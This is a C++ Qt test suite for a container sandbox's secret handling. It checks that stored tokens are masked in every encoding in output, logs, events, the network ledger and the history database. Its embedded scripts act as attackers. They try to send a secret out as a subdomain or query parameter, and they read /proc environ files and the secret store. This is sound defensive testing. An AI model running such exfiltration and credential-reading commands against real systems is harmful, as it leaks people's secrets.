// SPDX-License-Identifier: MIT
// Secrets as an attacker inside the sandbox and a careless program see them (docs/secrets.md): a real
// cordond on a private socket and data folder, the real CLI, real containers. A run that prints its secret in
// every encoding, split over writes, on stderr and in a traceback must leave no form of the value in any
// client's stream, the stored output, the events, the exports, the network ledger, or the bytes of
// history.db and its WAL. The store is the owner's alone, a container sees only its own secrets, and bad
// names, values and unknown secrets are clear errors that leave the daemon up.
#include "cliprocess.h"
#include "sandboxtest.h"

#include <QCryptographicHash>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QThread>

#include <sys/stat.h>

using namespace CordonTest;

namespace {

// Characters that every encoding treats differently: a quote and a backslash (JSON), '/', '+' and '='
// (percent and base64), a space and a UTF-8 letter.
const QByteArray Secret = QByteArrayLiteral("tok-9f8e/7d6c+5b4a=\"q\\ \xc3\xa9nd-0123456789");
// A value that can be a host name: the program tries to smuggle it out as one.
// Mixed case: a host name is recorded in lower case.
const QByteArray HostSecret = QByteArrayLiteral("Exfil7Q2w9E4r8T");

// The characters of `encoded` (base64 of bytes that hold the value at byte `offset`) that only the value's
// bits decide: the neighbours' bits share the characters at each end.
QByteArray base64Inner(const QByteArray &encoded, int offset, int length)
{
    const int first = (8 * offset + 5) / 6;
    const int end = (8 * (offset + length)) / 6;
    return encoded.mid(first, end - first);
}

// Every form the masking promises to catch, computed here with Qt's encoders rather than the masker's.
QList<QByteArray> formsOf(const QByteArray &value)
{
    QList<QByteArray> forms{value,
                            value.toLower(),
                            value.toHex(),
                            value.toHex().toUpper(),
                            value.toPercentEncoding(),
                            value.toPercentEncoding().toLower()};
    // JSON-escaped, as QJsonDocument and json.dumps(ensure_ascii=False) write it ...
    QByteArray json = QJsonDocument(QJsonArray{QString::fromUtf8(value)}).toJson(QJsonDocument::Compact);
    json = json.mid(2, json.size() - 4);
    forms.append(json);
    // ... and as json.dumps writes it by default, every non-ASCII character as \uXXXX.
    QByteArray ascii;
    for (const QChar c : QString::fromUtf8(json))
        ascii += c.unicode() < 0x80
                     ? QByteArray(1, char(c.unicode()))
                     : QByteArray("\\u") + QByteArray::number(c.unicode(), 16).rightJustified(4, '0');
    forms.append(ascii);
    for (int offset = 0; offset < 3; ++offset) {
        const QByteArray padded = QByteArray(offset, 'x') + value + "yz";
        forms.append(base64Inner(padded.toBase64(), offset, int(value.size())));
        forms.append(base64Inner(padded.toBase64(QByteArray::Base64UrlEncoding), offset, int(value.size())));
    }
    return forms;
}

// The first form of `value` found in `haystack`, or empty.
QByteArray leakIn(const QByteArray &haystack, const QByteArray &value)
{
    for (const QByteArray &form : formsOf(value)) {
        if (haystack.contains(form))
            return form;
    }
    return {};
}

// How much of a value's start may be shown when a cut or a partial print leaves it at the end of a text
// (the masker masks from SecretMasker::MinMaskedTail bytes on).
constexpr int MinimumShownPrefix = 4;

} // namespace

class TestSecrets final : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_socketDir{QDir::tempPath() + QStringLiteral("/csec-XXXXXX")};
    QTemporaryDir m_files;
    QProcess m_daemon;
    QString m_dataDir;
    QString m_container; // holds API_TOKEN as TOKEN and HOST_TOKEN, may reach example.com only

    QString writePolicy(const QString &name, const QByteArray &json)
    {
        return writePolicyFile(m_files.path(), name, json);
    }

    // Everything Cordon keeps about the runs, as files on disk.
    QByteArray historyBytes() const { return historyFileBytes(m_dataDir); }

    void verifyNoLeak(const QByteArray &where, const QByteArray &text)
    {
        // Line breaks taken out too: base64 wrapped at 76 columns must not hide a value either.
        QByteArray unwrapped = text;
        unwrapped.replace('\n', QByteArray()).replace('\r', QByteArray());
        for (const QByteArray &value : {Secret, HostSecret}) {
            QByteArray leak = leakIn(text, value);
            if (leak.isEmpty())
                leak = leakIn(unwrapped, value);
            QVERIFY2(leak.isEmpty(),
                     QByteArray(where + " holds the form " + leak + " of a secret:\n" + text.left(4000))
                         .constData());
        }
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_socketDir.isValid() && m_files.isValid());
        m_dataDir = qEnvironmentVariable("CORDON_DATA_DIR");
        QVERIFY(!m_dataDir.isEmpty());
        qputenv("CORDON_SOCKET", QFile::encodeName(m_socketDir.filePath(QStringLiteral("d.sock"))));
        qputenv("CORDON_DAEMON", "/nonexistent/cordond");
        // The organisation allows example.com (never reached: the proxy refuses before any connection).
        QVERIFY(QDir(m_files.path()).mkpath(QStringLiteral("config/cordon")));
        QFile org(m_files.filePath(QStringLiteral("config/cordon/org-policy.json")));
        QVERIFY(org.open(QIODevice::WriteOnly));
        org.write(R"({"allowed_domains": ["example.com"]})");
        org.close();
        qputenv("XDG_CONFIG_HOME", QFile::encodeName(m_files.filePath(QStringLiteral("config"))));
        m_daemon.setProgram(builtProgram(QStringLiteral("cordond")));
        const CliResult status = startDaemonAndWait(m_daemon);
        QVERIFY2(status.status == 0, status.describe());

        // As a user sets them: the value on standard input, a trailing line break dropped.
        for (const auto &[name, value] :
             {std::pair{"API_TOKEN", Secret}, std::pair{"HOST_TOKEN", HostSecret}}) {
            const CliResult set = cordon(args({"secret", "set", name}), value + "\n");
            QVERIFY2(set.status == 0, set.describe());
            QVERIFY2(set.out.contains("hmac-sha256:"), set.describe());
            verifyNoLeak("`cordon secret set`", set.out + set.err);
        }
        const QString policy = writePolicy(
            QStringLiteral("holder"),
            R"({"name": "holder", "secrets": [{"name": "API_TOKEN", "env": "TOKEN"}, {"name": "HOST_TOKEN"}],
                "network_policy": {"type": "allowlist", "allowed_domains": ["example.com"]}})");
        const CliResult created = cordon({QStringLiteral("create"), QStringLiteral("--policy"), policy});
        QVERIFY2(created.status == 0, created.describe());
        m_container = QString::fromUtf8(created.out).trimmed();
    }

    void cleanupTestCase()
    {
        cordon(args({"daemon", "stop"}));
        if (!m_daemon.waitForFinished(30000)) {
            m_daemon.kill();
            m_daemon.waitForFinished(5000);
        }
    }

    void theStoreIsTheOwnersAlone()
    {
        const QString store = m_dataDir + QStringLiteral("/secrets.json");
        struct stat info
        {
        };
        QCOMPARE(::stat(QFile::encodeName(store).constData(), &info), 0);
        QCOMPARE(info.st_mode & 0777, 0600u);
        QCOMPARE(info.st_uid, ::geteuid());

        const CliResult listed = cordon(args({"secret", "ls", "--json"}));
        QVERIFY2(listed.status == 0, listed.describe());
        const QJsonArray secrets = QJsonDocument::fromJson(listed.out).array();
        QCOMPARE(secrets.size(), 2);
        for (const QJsonValue &value : secrets) {
            const QJsonObject secret = value.toObject();
            QCOMPARE(QStringList(secret.keys()),
                     (QStringList{QStringLiteral("fingerprint"), QStringLiteral("name"),
                                  QStringLiteral("set_at"), QStringLiteral("used_by")}));
            QCOMPARE(secret.value(QStringLiteral("used_by"))
                         .toArray()
                         .at(0)
                         .toObject()
                         .value(QStringLiteral("id")),
                     m_container);
        }
        verifyNoLeak("`cordon secret ls --json`", listed.out);
        const CliResult table = cordon(args({"secret", "ls"}));
        QVERIFY2(table.status == 0 && table.out.contains("API_TOKEN") && table.out.contains("holder"),
                 table.describe());
        verifyNoLeak("`cordon secret ls`", table.out);
    }

    void aRunThatPrintsItsSecretLeaksNoForm()
    {
        // A second client follows the container's events and output as the workbench does.
        QProcess follower;
        follower.setProgram(builtProgram(QStringLiteral("cordon")));
        follower.setArguments({QStringLiteral("events"), QStringLiteral("--follow"), QStringLiteral("--json"),
                               QStringLiteral("--container"), m_container});
        follower.start();
        QVERIFY(follower.waitForStarted(5000));

        const QByteArray script = R"PY(
import base64, binascii, hashlib, json, os, sys, time, urllib.parse
t = os.environ["TOKEN"].encode()
print("sha", hashlib.sha256(t).hexdigest(), flush=True)
print("raw", t.decode(), flush=True)
for pad in (b"", b"a", b"ab"):
    print("b64", base64.b64encode(pad + t + b"z").decode(), base64.urlsafe_b64encode(pad + t).decode(), flush=True)
print("wrapped", base64.encodebytes(b"x" * 40 + t).decode(), flush=True)
print("hex", binascii.hexlify(t).decode(), binascii.hexlify(t).decode().upper(), flush=True)
print("pct", urllib.parse.quote(t, safe=""), urllib.parse.quote(t, safe="").lower(), flush=True)
print("json", json.dumps({"token": t.decode()}, ensure_ascii=False), json.dumps(t.decode()), flush=True)
sys.stdout.buffer.write(b"split " + t[:9]); sys.stdout.flush(); time.sleep(0.3)
sys.stdout.buffer.write(t[9:] + b"\n"); sys.stdout.flush()
sys.stderr.write("stderr " + t.decode() + "\n"); sys.stderr.flush()
raise RuntimeError("bad token " + os.environ["HOST_TOKEN"] + " " + t.decode())
)PY";
        const CliResult run =
            cordon({QStringLiteral("exec"), m_container, QStringLiteral("--"), QStringLiteral("python3"),
                    QStringLiteral("-c"), QString::fromUtf8(script)});
        QVERIFY2(run.status == 1, run.describe());
        // The run had the real value: the sandbox printed its hash, which the masking leaves alone.
        const QByteArray sha = QCryptographicHash::hash(Secret, QCryptographicHash::Sha256).toHex();
        QVERIFY2(run.out.contains(QByteArray("sha " + sha)), run.describe());
        QVERIFY2(run.out.contains("raw [secret:API_TOKEN]"), run.describe());
        QVERIFY2(run.out.contains("split [secret:API_TOKEN]"), run.describe());
        QVERIFY2(run.err.contains("stderr [secret:API_TOKEN]"), run.describe());
        QVERIFY2(run.err.contains("RuntimeError: bad token [secret:HOST_TOKEN] [secret:API_TOKEN]"),
                 run.describe());
        verifyNoLeak("the streamed run", run.out + run.err);

        const QRegularExpressionMatch id =
            QRegularExpression(QStringLiteral("run ([0-9a-f]{16})")).match(QString::fromUtf8(run.err));
        QVERIFY2(id.hasMatch(), run.describe());
        const QString runId = id.captured(1);

        const CliResult logs = cordon({QStringLiteral("logs"), runId});
        QVERIFY2(logs.out.contains("raw [secret:API_TOKEN]"), logs.describe());
        verifyNoLeak("`cordon logs`", logs.out + logs.err);
        const CliResult logsJson = cordon({QStringLiteral("logs"), QStringLiteral("--json"), runId});
        QVERIFY2(logsJson.status == 0 && logsJson.out.contains("[secret:API_TOKEN]"), logsJson.describe());
        verifyNoLeak("`cordon logs --json`", logsJson.out);
        // The record names what the run received, by name and keyed fingerprint.
        const CliResult exported = cordon({QStringLiteral("history"), QStringLiteral("--json"),
                                           QStringLiteral("--container"), m_container});
        QVERIFY2(exported.status == 0, exported.describe());
        verifyNoLeak("`cordon history --json`", exported.out);
        const QJsonArray runs = exported.json().value(QStringLiteral("runs")).toArray();
        QVERIFY(!runs.isEmpty());
        const QJsonArray received = runs.at(0).toObject().value(QStringLiteral("secrets")).toArray();
        QCOMPARE(received.size(), 2);
        QCOMPARE(received.at(0).toObject().value(QStringLiteral("name")).toString(),
                 QStringLiteral("API_TOKEN"));
        QCOMPARE(received.at(0).toObject().value(QStringLiteral("env")).toString(), QStringLiteral("TOKEN"));
        const QJsonArray listed =
            QJsonDocument::fromJson(cordon(args({"secret", "ls", "--json"})).out).array();
        QString fingerprint;
        for (const QJsonValue &secret : listed) {
            if (secret.toObject().value(QStringLiteral("name")) == QStringLiteral("API_TOKEN"))
                fingerprint = secret.toObject().value(QStringLiteral("fingerprint")).toString();
        }
        QVERIFY(fingerprint.startsWith(QStringLiteral("hmac-sha256:")));
        QCOMPARE(received.at(0).toObject().value(QStringLiteral("fingerprint")).toString(), fingerprint);

        const CliResult events = cordon(
            {QStringLiteral("events"), QStringLiteral("--json"), QStringLiteral("--container"), m_container});
        QVERIFY2(events.status == 0 && events.out.contains("run.finished"), events.describe());
        verifyNoLeak("`cordon events --json`", events.out);

        follower.terminate();
        follower.waitForFinished(5000);
        const QByteArray followed = follower.readAllStandardOutput();
        QVERIFY2(followed.contains("run.started"), followed);
        verifyNoLeak("the followed events", followed);
        verifyNoLeak("history.db and its WAL", historyBytes());
    }

    // A value the user typed into a command, and an upload named after one: recorded masked, and the code's
    // hash is of what is recorded, so it cannot confirm a guess of the value.
    void valuesInCommandsAndUploadNamesAreMasked()
    {
        const QString upload =
            m_files.filePath(QStringLiteral("key-") + QString::fromUtf8(HostSecret) + QStringLiteral(".txt"));
        QFile file(upload);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("input\n");
        file.close();
        const CliResult copied = cordon({QStringLiteral("cp"), upload, m_container + QLatin1Char(':')});
        QVERIFY2(copied.status == 0, copied.describe());
        const CliResult run = cordon({QStringLiteral("exec"), m_container, QStringLiteral("--"),
                                      QStringLiteral("echo"), QString::fromUtf8("typed " + HostSecret)});
        QVERIFY2(run.out.contains("typed [secret:HOST_TOKEN]"), run.describe());
        const CliResult exported =
            cordon({QStringLiteral("history"), QStringLiteral("--json"), QStringLiteral("--limit"),
                    QStringLiteral("1"), QStringLiteral("--container"), m_container});
        verifyNoLeak("`cordon history --json`", exported.out);
        const QJsonObject record = exported.json().value(QStringLiteral("runs")).toArray().at(0).toObject();
        const QJsonArray command = record.value(QStringLiteral("command")).toArray();
        QCOMPARE(command.at(1).toString(), QStringLiteral("typed [secret:HOST_TOKEN]"));
        QCOMPARE(record.value(QStringLiteral("code_sha256")).toString(),
                 QString::fromLatin1(
                     QCryptographicHash::hash(QJsonDocument(command).toJson(QJsonDocument::Compact),
                                              QCryptographicHash::Sha256)
                         .toHex()));
        QVERIFY2(QJsonDocument(record.value(QStringLiteral("inputs")).toArray())
                     .toJson()
                     .contains("key-[secret:HOST_TOKEN].txt"),
                 exported.out);
        verifyNoLeak("history.db and its WAL", historyBytes());
    }

    // A name sent as a host: the proxy refuses it, and the ledger records the refusal without the value.
    void aSecretSentAsAHostNameIsMaskedInTheLedger()
    {
        const QByteArray script = R"PY(
import os, urllib.request
scheme = "http:" + chr(47) * 2  # no double slash in this C++ raw string: moc would read a comment
for url in (scheme + os.environ["HOST_TOKEN"] + ".example.net/", scheme + "example.com/?k=" + os.environ["HOST_TOKEN"]):
    try:
        urllib.request.urlopen(url, timeout=10)
    except Exception as error:
        print("refused", type(error).__name__)
)PY";
        const CliResult run =
            cordon({QStringLiteral("exec"), m_container, QStringLiteral("--"), QStringLiteral("python3"),
                    QStringLiteral("-c"), QString::fromUtf8(script)});
        QVERIFY2(run.out.contains("refused"), run.describe());
        const CliResult shown = cordon(
            {QStringLiteral("network"), QStringLiteral("show"), QStringLiteral("--json"), m_container});
        QVERIFY2(shown.status == 0, shown.describe());
        QVERIFY2(shown.out.contains("[secret:HOST_TOKEN].example.net"), shown.describe());
        verifyNoLeak("`cordon network show`", shown.out);
        const CliResult events =
            cordon({QStringLiteral("events"), QStringLiteral("--json"), QStringLiteral("--container"),
                    m_container, QStringLiteral("--kind"), QStringLiteral("network.denied")});
        QVERIFY2(events.out.contains("network.denied"), events.describe());
        verifyNoLeak("the network events", events.out);
        verifyNoLeak("history.db and its WAL", historyBytes());
    }

    void aOneShotRunIsMaskedToo()
    {
        const QString policy =
            writePolicy(QStringLiteral("oneshot"), R"({"secrets": [{"name": "API_TOKEN", "env": "TOKEN"}]})");
        const CliResult run = cordon({QStringLiteral("run"), QStringLiteral("--policy"), policy,
                                      QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
                                      QStringLiteral("echo \"out $TOKEN\"; echo \"err $TOKEN\" >&2; "
                                                     "printf %s \"$TOKEN\" | base64 -w0")});
        QVERIFY2(run.status == 0, run.describe());
        QVERIFY2(run.out.contains("out [secret:API_TOKEN]") && run.err.contains("err [secret:API_TOKEN]"),
                 run.describe());
        verifyNoLeak("`cordon run`", run.out + run.err);
        const CliResult json =
            cordon({QStringLiteral("run"), QStringLiteral("--json"), QStringLiteral("--policy"), policy,
                    QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
                    QStringLiteral("echo \"out $TOKEN\"")});
        QVERIFY2(json.status == 0 && json.out.contains("out [secret:API_TOKEN]"), json.describe());
        verifyNoLeak("`cordon run --json`", json.out + json.err);

        // A file named after a value, taken out with --output-dir: its name is masked in what is shown.
        const QString outputs = m_files.filePath(QStringLiteral("oneshot-outputs"));
        const QString named =
            writePolicy(QStringLiteral("oneshot-named"), R"({"secrets": [{"name": "HOST_TOKEN"}]})");
        const CliResult artifacts =
            cordon({QStringLiteral("run"), QStringLiteral("--json"), QStringLiteral("--output-dir"), outputs,
                    QStringLiteral("--policy"), named, QStringLiteral("--"), QStringLiteral("sh"),
                    QStringLiteral("-c"), QStringLiteral("echo x > /mnt/data/outputs/$HOST_TOKEN.txt")});
        QVERIFY2(artifacts.status == 0 && artifacts.out.contains("[secret:HOST_TOKEN].txt"),
                 artifacts.describe());
        verifyNoLeak("`cordon run --output-dir --json`", artifacts.out + artifacts.err);

        // Its network decisions, recorded by the daemon: also those the ledger still held when the run ended.
        const QString networked = writePolicy(QStringLiteral("oneshot-net"),
                                              R"({"secrets": [{"name": "HOST_TOKEN"}],
                "network_policy": {"type": "allowlist", "allowed_domains": ["example.com"]}})");
        const QByteArray script = R"PY(
import os, urllib.request
for attempt in range(8):
    try:
        urllib.request.urlopen("http:" + chr(47) * 2 + os.environ["HOST_TOKEN"] + ".example.net/", timeout=10)
    except Exception as error:
        print("refused", type(error).__name__)
)PY";
        const CliResult tried =
            cordon({QStringLiteral("run"), QStringLiteral("--policy"), networked, QStringLiteral("--"),
                    QStringLiteral("python3"), QStringLiteral("-c"), QString::fromUtf8(script)});
        QVERIFY2(tried.out.count("refused") == 8, tried.describe());
        verifyNoLeak("a one-shot run's network", tried.out + tried.err);
        QTRY_VERIFY(historyBytes().contains("[secret:HOST_TOKEN].example.net"));
        verifyNoLeak("history.db and its WAL", historyBytes());
    }

    // Output cut at its cap in the middle of a value, and masks longer than the values they replace: the
    // start of a value does not stay behind, and what is kept stays within the cap.
    void theOutputCapNeitherCutsAValueOpenNorGrows()
    {
        QVERIFY(cordon(args({"secret", "set",
                             "A_SECRET_WITH_A_NAME_FAR_LONGER_THAN_ITS_VALUE_SO_THAT_EVERY_MASK_"
                             "GROWS_THE_OUTPUT_BY_MORE_THAN_TEN_TIMES"}),
                       "k8y-5ecr")
                    .status == 0);
        const QString policy = writePolicy(
            QStringLiteral("capped"),
            R"({"name": "capped", "limits": {"output_mb": 1}, "secrets": [{"name": "API_TOKEN", "env": "TOKEN"},
                {"name": "A_SECRET_WITH_A_NAME_FAR_LONGER_THAN_ITS_VALUE_SO_THAT_EVERY_MASK_GROWS_THE_OUTPUT_BY_MORE_THAN_TEN_TIMES", "env": "SHORT"}]})");
        QCOMPARE(cordon({QStringLiteral("create"), QStringLiteral("--policy"), policy}).status, 0);
        // 1 MiB minus 18 bytes of filler, then the value: the cap falls inside it.
        const CliResult cut =
            cordon(args({"exec", "capped", "--", "sh", "-c",
                         "head -c 1048558 /dev/zero | tr '\\0' a; printf '%s\\n' \"$TOKEN\""}));
        QVERIFY2(cut.status == 0, cut.err);
        QVERIFY2(cut.out.size() <= 1024 * 1024, QByteArray::number(cut.out.size()));
        QVERIFY2(!cut.out.contains(Secret.left(MinimumShownPrefix)), cut.out.right(200));
        QVERIFY2(cut.out.endsWith("[secret:API_TOKEN]"), cut.out.right(200));
        QVERIFY2(!historyBytes().contains(Secret.left(MinimumShownPrefix)),
                 "a prefix of the value is in the history");

        const CliResult grown =
            cordon({QStringLiteral("exec"), QStringLiteral("--json"), QStringLiteral("capped"),
                    QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
                    QStringLiteral("i=0; while [ $i -lt 200000 ]; do echo \"$SHORT\"; i=$((i+1)); done")});
        const QJsonObject run = grown.json().value(QStringLiteral("run")).toObject();
        QVERIFY2(run.value(QStringLiteral("stdout_truncated")).toBool(), grown.err);
        QVERIFY2(grown.out.size() < 3 * 1024 * 1024, QByteArray::number(grown.out.size()));
        QVERIFY(!grown.out.contains("k8y-5ecr"));
        QCOMPARE(cordon(args({"rm", "--force", "capped"})).status, 0);
    }

    // Another container, without secrets, running beside the holder: nothing of the holder's secrets, the
    // store or its key is in its reach.
    void anotherContainerCannotReadTheSecrets()
    {
        // The holder keeps a process alive that has the secret in its environment.
        QProcess background;
        background.setProgram(builtProgram(QStringLiteral("cordon")));
        background.setArguments({QStringLiteral("exec"), m_container, QStringLiteral("--"),
                                 QStringLiteral("sh"), QStringLiteral("-c"),
                                 QStringLiteral("echo started; exec sleep 60")});
        background.start();
        QVERIFY(background.waitForStarted(5000) && background.waitForReadyRead(15000));

        const CliResult created = cordon(args({"create", "--name", "bystander"}));
        QVERIFY2(created.status == 0, created.describe());
        const QString store = m_dataDir + QStringLiteral("/secrets.json");
        const CliResult probe =
            cordon({QStringLiteral("exec"), QStringLiteral("bystander"), QStringLiteral("--"),
                    QStringLiteral("sh"), QStringLiteral("-c"),
                    QStringLiteral(
                        "env; cat /proc/[0-9]*/environ; cat '%1' || echo no-store; ls /proc | tr '\\n' ' '")
                        .arg(store)});
        QVERIFY2(probe.out.contains("no-store"), probe.describe());
        QVERIFY2(!probe.out.contains("TOKEN"), probe.describe());
        QCOMPARE(leakIn(probe.out + probe.err, Secret), QByteArray());
        QCOMPARE(leakIn(probe.out + probe.err, HostSecret), QByteArray());
        // Nor through the holder's own processes: the bystander sees its own pid namespace only.
        QVERIFY2(!probe.out.contains("sleep"), probe.describe());

        background.kill();
        background.waitForFinished(5000);
        QCOMPARE(cordon(args({"rm", "--force", "bystander"})).status, 0);
    }

    void badInputIsAClearErrorAndTheDaemonStaysUp()
    {
        struct Case
        {
            QStringList arguments;
            QByteArray input;
            QByteArray expected;
        };
        const QList<Case> cases{
            {args({"secret", "set", "not-a-name"}), "some-long-value", "variable name"},
            {args({"secret", "set", "9LIVES"}), "some-long-value", "variable name"},
            {args({"secret", "set", "SHORT"}), "abc", "must have 8 to 4096 bytes, it has 3"},
            {args({"secret", "set", "HUGE"}), QByteArray(5000, 'k'), "must have 8 to 4096 bytes"},
            {args({"secret", "set", "NUL"}), QByteArray("abcdefgh\0ijkl", 13), "NUL"},
            {args({"secret", "set", "LATIN1"}), "caf\xe9-latin1-value", "not UTF-8"},
            {args({"secret", "rm", "NEVER_SET"}), {}, "no secret named NEVER_SET"},
            {args({"secret", "set"}), {}, "takes one secret name"},
        };
        for (const Case &bad : cases) {
            const CliResult result = cordon(bad.arguments, bad.input);
            QVERIFY2(result.status != 0 && result.err.contains(bad.expected), result.describe());
            // A refused value is never repeated back.
            if (bad.input.size() >= 8)
                QVERIFY2(!result.err.contains(bad.input.left(8)), result.describe());
        }

        // A policy that names a secret the store lacks: refused at create, with the command that fixes it.
        const QString policy = writePolicy(QStringLiteral("unknown"),
                                           R"({"name": "needy", "secrets": [{"name": "NOT_IN_STORE"}]})");
        const CliResult needy = cordon({QStringLiteral("create"), QStringLiteral("--policy"), policy});
        QVERIFY2(needy.status == 1 && needy.err.contains("cordon secret set NOT_IN_STORE"), needy.describe());
        const CliResult oneShot = cordon({QStringLiteral("run"), QStringLiteral("--policy"), policy,
                                          QStringLiteral("--"), QStringLiteral("true")});
        QVERIFY2(oneShot.status == 125 && oneShot.err.contains("NOT_IN_STORE"), oneShot.describe());
        // Policy syntax: a variable that two secrets would set, or env also sets.
        for (const QByteArray &json :
             {QByteArray(
                  R"({"secrets": [{"name": "A_TOKEN", "env": "X"}, {"name": "B_TOKEN", "env": "X"}]})"),
              QByteArray(R"({"env": {"X": "1"}, "secrets": [{"name": "A_TOKEN", "env": "X"}]})"),
              QByteArray(R"({"secrets": [{"name": "A-TOKEN"}]})"),
              QByteArray(R"({"secrets": [{"name": "A_TOKEN", "value": "inline"}]})")}) {
            const CliResult refused = cordon({QStringLiteral("create"), QStringLiteral("--policy"),
                                              writePolicy(QStringLiteral("syntax"), json)});
            QVERIFY2(refused.status == 2 || refused.status == 1, refused.describe());
            QVERIFY2(refused.err.contains("secrets"), refused.describe());
        }

        // A stored secret's value pasted into `env`: the policy and the history would keep it in plain text.
        // Refused, with the `secrets` entry to use instead, and the value never repeated back.
        const QString pasted = writePolicy(
            QStringLiteral("pasted"),
            QJsonDocument(QJsonObject{{QStringLiteral("name"), QStringLiteral("pasted")},
                                      {QStringLiteral("env"),
                                       QJsonObject{{QStringLiteral("MY_TOKEN"), QString::fromUtf8(Secret)}}}})
                .toJson());
        const CliResult inEnv = cordon({QStringLiteral("create"), QStringLiteral("--policy"), pasted});
        QVERIFY2(inEnv.status == 1 &&
                     inEnv.err.contains("env.MY_TOKEN: holds the value of the stored secret API_TOKEN") &&
                     inEnv.err.contains(R"("secrets": [{"name": "API_TOKEN", "env": "MY_TOKEN"}])"),
                 inEnv.describe());
        verifyNoLeak("the refusal of a secret in env", inEnv.out + inEnv.err);
        // The same check for a one-shot run, which the launcher runs without the daemon: nothing runs.
        const CliResult oneShotEnv =
            cordon({QStringLiteral("run"), QStringLiteral("--policy"), pasted, QStringLiteral("--"),
                    QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("echo ran")});
        QVERIFY2(
            oneShotEnv.status == 2 && !oneShotEnv.out.contains("ran") &&
                oneShotEnv.err.contains("env.MY_TOKEN: holds the value of the stored secret API_TOKEN") &&
                oneShotEnv.err.contains(R"("secrets": [{"name": "API_TOKEN", "env": "MY_TOKEN"}])"),
            oneShotEnv.describe());
        verifyNoLeak("the refusal of a one-shot run's secret in env", oneShotEnv.out + oneShotEnv.err);

        // A secret removed while a container uses it: the next run fails clearly, the container stays.
        const QString spare =
            writePolicy(QStringLiteral("spare"), R"({"name": "spare", "secrets": [{"name": "SPARE"}]})");
        QCOMPARE(cordon(args({"secret", "set", "SPARE"}), "spare-value-123").status, 0);
        QCOMPARE(cordon({QStringLiteral("create"), QStringLiteral("--policy"), spare}).status, 0);
        QCOMPARE(cordon(args({"secret", "rm", "SPARE"})).status, 0);
        const CliResult orphan = cordon(args({"exec", "spare", "--", "true"}));
        QVERIFY2(orphan.status != 0 && orphan.err.contains("no secret named SPARE"), orphan.describe());
        QCOMPARE(cordon(args({"rm", "--force", "spare"})).status, 0);

        const CliResult status = cordon(args({"daemon", "status"}));
        QVERIFY2(status.status == 0, status.describe());
        QCOMPARE(m_daemon.state(), QProcess::Running);
    }

    // The launcher reads the store itself: one that others may read is refused, as ssh refuses a key.
    void aStoreOthersCanReadIsRefused()
    {
        // The daemon notices too, without a restart.
        const QString storePath = m_dataDir + QStringLiteral("/secrets.json");
        QCOMPARE(::chmod(QFile::encodeName(storePath).constData(), 0604), 0);
        const CliResult listed = cordon(args({"secret", "ls"}));
        QCOMPARE(::chmod(QFile::encodeName(storePath).constData(), 0600), 0);
        QVERIFY2(listed.status == 1 && listed.err.contains("may be read or written by others"),
                 listed.describe());
        QVERIFY2(cordon(args({"secret", "ls"})).out.contains("API_TOKEN"), "the store came back");
        const QString store = m_dataDir + QStringLiteral("/secrets.json");
        QCOMPARE(::chmod(QFile::encodeName(store).constData(), 0644), 0);
        const QString policy =
            writePolicy(QStringLiteral("oneshot"), R"({"secrets": [{"name": "API_TOKEN"}]})");
        const CliResult run = cordon({QStringLiteral("run"), QStringLiteral("--policy"), policy,
                                      QStringLiteral("--"), QStringLiteral("true")});
        QCOMPARE(::chmod(QFile::encodeName(store).constData(), 0600), 0);
        QVERIFY2(run.status == 125 && run.err.contains("may be read or written by others"), run.describe());
    }
};

CORDON_SANDBOX_TEST_MAIN(TestSecrets)
#include "tst_secrets.moc"
